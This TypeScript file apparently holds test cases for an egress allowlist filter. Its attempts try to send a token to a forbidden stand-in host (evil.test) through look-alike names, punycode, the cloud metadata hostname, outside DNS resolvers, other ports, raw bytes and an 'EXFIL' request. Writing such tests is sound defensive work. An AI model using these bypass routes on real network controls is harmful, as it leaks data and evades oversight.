/** Names that nothing is allowed to, asked for and written in every way; addresses without a name; other ports of the name that is allowed. */
import { type Attempt, type Ground, request, type Step, send, tls } from "./attempt.js";

export function nameAttempts(ground: Ground): Attempt[] {
  return [...reachable(ground), ...otherNames(ground), ...resolvers(ground), ...otherPorts(ground)];
}

function reachable({ https }: Ground): Attempt[] {
  const get =
    (host: string) =>
    (token: string): Step[] => [
      { connect: { host, port: https } },
      tls(host, "http/1.1"),
      send(request(`GET /public/${token}`, `Host: ${host}:${https}`)),
    ];
  return [
    { name: "what the rule allows", isAllowed: true, steps: get("good.test") },
    { name: "what the host rule lets through unopened", isAllowed: true, steps: get("pass.test") },
  ];
}

function otherNames({ https, http, raw }: Ground): Attempt[] {
  const spelled: Record<string, string> = {
    "the name itself": "evil.test",
    "in upper case": "EVIL.TEST",
    "with a trailing dot": "evil.test.",
    "a name below the allowed one": "sub.good.test",
    "a name above the allowed one": "test",
    "the allowed one as a prefix": "good.test.evil.test",
    "the allowed one as an ending": "notgood.test",
    "a look-alike of the allowed one": "ɡood.test",
    "its punycode": "xn--ood-8tb.test",
    "a cloud's name for its metadata": "metadata.google.internal",
  };
  const byName = Object.entries(spelled).flatMap(([what, host]): Attempt[] => {
    const asked = host.normalize("NFKC");
    return (["asked for", "remembered"] as const).map((how) => ({
      name: `https to another name, ${what}, ${how}`,
      steps: (token) => [
        { connect: { host: asked, port: https, ...(how === "asked for" && { asks: true }) } },
        tls(asked, "http/1.1"),
        send(request(`GET /public/${token}`, `Host: ${asked}:${https}`)),
      ],
    }));
  });
  const plain =
    (host: string, family?: 6) =>
    (token: string): Step[] => [
      { connect: { host, port: http, ...(family && { family }) } },
      send(request(`GET /public/${token}`, `Host: ${host}:${http}`)),
    ];
  return [
    ...byName,
    { name: "http to another name", steps: plain("evil.test") },
    { name: "http to another name by its IPv6 twin", steps: plain("evil.test", 6) },
    {
      name: "opaque bytes to another name",
      steps: (token) => [{ connect: { host: "evil.test", port: raw } }, send(token)],
    },
    {
      name: "TLS to another name by its IPv6 twin",
      steps: (token) => [
        { connect: { host: "evil.test", port: https, family: 6 } },
        tls("evil.test"),
        send(request(`GET /${token}`, "Host: evil.test")),
      ],
    },
  ];
}

function resolvers({ raw }: Ground): Attempt[] {
  return [false, true].flatMap((overTcp): Attempt[] =>
    ["8.8.8.8", "192.0.2.53"].map((server) => ({
      name: `another name, asked of ${server} over ${overTcp ? "TCP" : "UDP"}`,
      steps: (token) => [
        { ask: { name: "evil.test", server, overTcp } },
        { connect: { host: "@answer", port: raw } },
        send(token),
      ],
    })),
  );
}

function otherPorts({ https, otherHttps, http, raw, greeting }: Ground): Attempt[] {
  const to = (host: string, port: number) => ({ connect: { host, port } });
  return [
    {
      name: "the allowed name over TLS at another port",
      steps: (token) => [
        to("good.test", otherHttps),
        tls("good.test", "http/1.1"),
        send(request(`GET /public/${token}`, `Host: good.test:${otherHttps}`)),
      ],
    },
    { name: "opaque bytes to the allowed name", steps: (token) => [to("good.test", raw), send(`\x00\x01${token}`)] },
    {
      name: "opaque bytes to the allowed name's port",
      steps: (token) => [to("good.test", https), send(`\x00\x01${token}`)],
    },
    {
      name: "plain HTTP to the allowed name",
      steps: (token) => [to("good.test", http), send(request(`GET /public/${token}`, `Host: good.test:${http}`))],
    },
    {
      name: "plain HTTP to the allowed name's port",
      steps: (token) => [to("good.test", https), send(request(`GET /public/${token}`, `Host: good.test:${https}`))],
    },
    {
      name: "opaque bytes to the name that is let through",
      steps: (token) => [to("pass.test", raw), send(`\x00${token}`)],
    },
    {
      name: "plain HTTP to the name that is let through",
      steps: (token) => [to("pass.test", http), send(request(`GET /${token}`, `Host: pass.test:${http}`))],
    },
    {
      name: "an unknown method in plain HTTP to the name that is let through",
      control: "direct",
      steps: (token) => [to("pass.test", raw), send(request(`EXFIL /${token}`, "Host: pass.test"))],
    },
    {
      name: "a protocol in which the server speaks first",
      steps: (token) => [to("good.test", greeting), { awaits: true }, send(`USER ${token}\r\n`)],
    },
    {
      name: "the same with the name that is let through",
      steps: (token) => [to("pass.test", greeting), { awaits: true }, send(`USER ${token}\r\n`)],
    },
    {
      name: "bytes after silence",
      steps: (token) => [to("pass.test", raw), { pauseMs: 700 }, send(token)],
    },
  ];
}
